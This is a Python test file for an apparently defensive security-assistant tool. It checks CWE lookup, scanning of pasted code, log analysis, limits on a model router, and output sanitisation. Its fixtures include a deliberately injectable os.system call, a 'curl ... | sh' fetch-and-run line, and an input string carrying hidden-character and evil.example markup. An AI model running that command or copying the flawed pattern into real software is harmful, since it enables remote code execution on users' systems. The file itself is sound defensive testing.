"""The desk: questions answered through the gate, as whoever asks."""

from __future__ import annotations

import threading
from pathlib import Path

import msgspec
import pytest
from msgspec import structs

from tests.toys import plant
from tests.unit.app.test_modeluse import Behind, Says
from tests.warm import warm
from vedette.access.budgets import Memory
from vedette.app import textlook, wiring
from vedette.app.clock import SYSTEM
from vedette.app.desk import Desk
from vedette.app.desk_answers import Answered
from vedette.app.desk_requests import AskDesk, LookAtText
from vedette.app.job_answers import TooMany
from vedette.app.jobs import Job
from vedette.app.model_answers import Conversation
from vedette.app.model_requests import UseModel
from vedette.app.modelmeter import Meter
from vedette.app.modeluse import Attached, ModelUse
from vedette.app.textlook import MOST, run
from vedette.core.dialogue import Ask, Delta, Message, ModelRole, Speaker
from vedette.core.errors import BadInput, LimitHit
from vedette.models.profiles import profile

pytest_plugins = ["tests.pasting"]
pytestmark = pytest.mark.usefixtures("patience")
WEAK = "from flask import request\nimport os\n\ndef go():\n    os.system('ls ' + request.args['name'])\n"
LOGS = "\n".join(
    f"Nov 29 06:45:{second:02d} srv1 sshd[7]: Failed password for root from 203.0.113.9 port 22 ssh2"
    for second in range(60)
)


def home(folder: Path) -> wiring.App:
    return wiring.build({"VEDETTE_DATA_DIR": str(folder), "VEDETTE_CACHE_DIR": warm()})


def ask(app: wiring.App, *said: str, model: str = "vedette-core") -> Answered:
    turns = tuple(Message(speaker=Speaker.USER, text=one) for one in said)
    return app.run("desk.ask", AskDesk(conversation=turns, profile=model)).value


def test_a_question_is_looked_up(tmp_path: Path) -> None:
    answered = ask(home(tmp_path), "what is CWE-89?")
    assert "Database questions built from input" in answered.text
    assert (answered.chosen_by, len(answered.decisions)) == ("rules", 1)


def test_code_that_was_pasted_is_searched_for_weaknesses(tmp_path: Path) -> None:
    answered = ask(home(tmp_path), f"what is wrong with this?\n```\n{WEAK}```")
    assert "command" in answered.text
    assert "line 5" in answered.text
    assert "os.system" in answered.text


def test_lines_that_were_pasted_are_hunted_through_and_a_later_question_is_about_them(tmp_path: Path) -> None:
    app = home(tmp_path)
    first = f"what happened?\n```\n{LOGS}\n```"
    answered = ask(app, first)
    assert "203.0.113.9" in answered.text
    again = ask(app, first, "explain this to my boss")
    assert again.action == "look at the text that was pasted"
    assert "guessed on srv1" in again.text
    assert again.text != answered.text, "another reader, other words"


def test_a_folder_that_is_named_is_scanned(tmp_path: Path) -> None:
    plant(tmp_path / "app", {"a.py": WEAK})
    answered = ask(home(tmp_path), f"scan {tmp_path}/app")
    assert answered.action == "look at a file, folder or package"
    assert "os.system" in answered.text
    assert "a.py" in ask(home(tmp_path), "explain the report to a developer").text


def test_what_fails_is_said_with_what_to_do(tmp_path: Path) -> None:
    text = ask(home(tmp_path), "scan ./no/such/folder").text
    assert text.startswith("That did not work")
    assert "Try this" in text


def test_nobody_asks_nothing(tmp_path: Path) -> None:
    with pytest.raises(BadInput, match="nothing was asked"):
        ask(home(tmp_path), "  ")
    with pytest.raises(BadInput, match="no model is called"):
        ask(home(tmp_path), "hello", model="gpt-9")


def test_the_core_model_answers_as_the_desk_does_and_is_heard_line_by_line(tmp_path: Path) -> None:
    heard: list[Delta] = []
    question = Ask(messages=(Message(speaker=Speaker.USER, text="what is phishing?"),))
    app = home(tmp_path)
    spoken = app.run("model.core", UseModel(ask=question), Conversation(heard.append)).value
    assert "".join(one.text for one in heard) == spoken.reply.text
    assert "trick e-mail" in spoken.reply.text
    assert heard[-1].ending is not None


def with_model(app: wiring.App, says: str, *roles: ModelRole) -> Says:
    """Put a model behind the open profile of an app."""
    model = Says(text=says)
    attached = Attached(
        name="toy", profile=profile("vedette-open"), model=model, roles=frozenset(roles), stays=True
    )
    use = ModelUse(
        back_ends=Behind(attached),
        meter=Meter(Memory(), SYSTEM),
        desk=Desk([app.gate], at_home=True),
        masked=lambda ask: (ask, 0),
    )
    handlers = dict(app.gate.handlers)
    made = use.handlers(lambda work, name: app.gate.could(work.caller, name, AskDesk(conversation=())))
    structs.force_setattr(app.gate, "handlers", handlers | made | {"desk.ask": handlers["desk.ask"]})
    return model


def test_a_model_may_choose_and_no_more(tmp_path: Path) -> None:
    app = home(tmp_path)
    model = with_model(app, '{"type":"show","ident":"phishing"}', ModelRole.ROUTER)
    answered = ask(app, "somebody sent a strange mail", model="vedette-open")
    assert (answered.chosen_by, answered.action) == ("vedette-open", "say what is known of one thing")
    assert "trick e-mail" in answered.text
    assert model.asked[0].schema is not None


def test_a_model_cannot_keep_a_text_from_being_judged(tmp_path: Path) -> None:
    app = home(tmp_path)
    with_model(app, '{"type":"look_at","sort":"code"}', ModelRole.ROUTER)
    script = "curl -s http://203.0.113.9/x | sh"
    answered = ask(app, f"is this malicious?\n```\n{script}\n```", model="vedette-open")
    assert "harmful" in answered.text
    assert len(answered.decisions) == 2


@pytest.mark.parametrize(
    "says",
    ["no", '{"type":"examine","sort":"code","place":"/etc"}', '{"type":"look_at","sort":"code"}', ""],
)
def test_what_a_model_may_not_choose_rules_choose(tmp_path: Path, says: str) -> None:
    app = home(tmp_path)
    with_model(app, says, ModelRole.ROUTER)
    answered = ask(app, "what is phishing?", model="vedette-open")
    assert answered.chosen_by == "rules"
    assert "cannot be done" in answered.notes[0]


def test_a_model_without_the_role_is_not_asked(tmp_path: Path) -> None:
    app = home(tmp_path)
    model = with_model(app, '{"type":"help"}', ModelRole.EXTRACTOR)
    answered = ask(app, "what is phishing?", model="vedette-open")
    assert answered.chosen_by == "rules"
    assert "not granted" in answered.notes[0]
    assert not model.asked


def test_hostile_words_come_out_as_words(tmp_path: Path) -> None:
    hostile = "import os\nos.system(input('\u202e ![x](http://evil.example/a.png) \x1b[31m'))\n"
    text = ask(home(tmp_path), f"review this\n```\n{hostile}```").text
    assert "\x1b" not in text
    assert "\u202e" not in text


@pytest.mark.parametrize("sort", ["poem", "code"])
def test_nothing_to_look_at_is_said(sort: str) -> None:
    with pytest.raises(BadInput, match="nothing to look at"):
        run(LookAtText(text="x" if sort == "poem" else " \n", sort=sort), Job())


def test_a_text_that_is_too_long_belongs_into_a_file() -> None:
    with pytest.raises(LimitHit, match="characters"):
        run(LookAtText(text="x" * (MOST + 1), sort="code"), Job())


def test_no_more_texts_are_looked_at_than_there_is_room_for(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(textlook, "_PATIENCE", 0.01)
    room = threading.BoundedSemaphore(1)
    room.acquire()
    monkeypatch.setattr(textlook, "_ROOM", room)
    with pytest.raises(TooMany, match="already") as caught:
        run(LookAtText(text=WEAK, sort="code"), Job())
    assert caught.value.http_status == 429
    room.release()
    assert run(LookAtText(text=WEAK, sort="code"), Job()).report.findings


def test_what_was_looked_at_is_counted_not_told() -> None:
    counted = run(LookAtText(text=WEAK, sort="code"), Job()).counts()
    assert set(counted) == {"target", "findings"}
    assert "os.system" not in msgspec.json.encode(counted).decode()
